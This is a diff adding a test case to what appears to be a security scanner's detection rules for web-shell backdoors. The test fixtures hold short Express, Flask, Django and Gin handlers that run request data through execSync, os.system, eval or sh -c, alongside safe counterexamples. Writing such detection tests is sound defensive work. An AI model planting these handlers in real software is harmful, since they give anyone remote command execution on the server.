@@ -325,3 +325,25 @@ TEST_CASE("running data decoded at run time is found; decoding data that is not 
       {"src/b.py", "subprocess.run(['git', 'log', '--oneline'], check=True)\n", "code.exec.decoded-payload"},
   });
 }
+
+TEST_CASE("request data run as a command or code is a web shell; fixed commands in handlers are not") {
+  check_matches({
+      {"src/server.js",
+       "app.get('/__d', (q, r) => r.send(require('child_process').execSync(q.query.c).toString()));\napp.listen(3000);\n",
+       "code.backdoor.request-to-exec"},
+      {"app.py", "@app.route('/x')\ndef x():\n    os.system(request.args.get('cmd'))\n    return 'ok'\n",
+       "code.backdoor.request-to-exec"},
+      {"app.py", "def view(request):\n    code = request.POST['code']\n    return HttpResponse(eval(code))\n",
+       "code.backdoor.request-to-exec"},
+      {"main.go",
+       "package main\nfunc h(c *gin.Context) {\n\tout, _ := exec.Command(\"sh\", \"-c\", c.Query(\"q\")).Output()\n\tc.String(200, "
+       "string(out))\n}\n",
+       "code.backdoor.request-to-exec"},
+  });
+  check_no_matches({
+      {"src/server.js", "app.get('/v', (req, res) => res.send(execSync('git describe').toString()));\n",
+       "code.backdoor.request-to-exec"},
+      {"app.py", "def view(request):\n    n = int(request.GET['n'])\n    return HttpResponse(str(n * 2))\n",
+       "code.backdoor.request-to-exec"},
+  });
+}
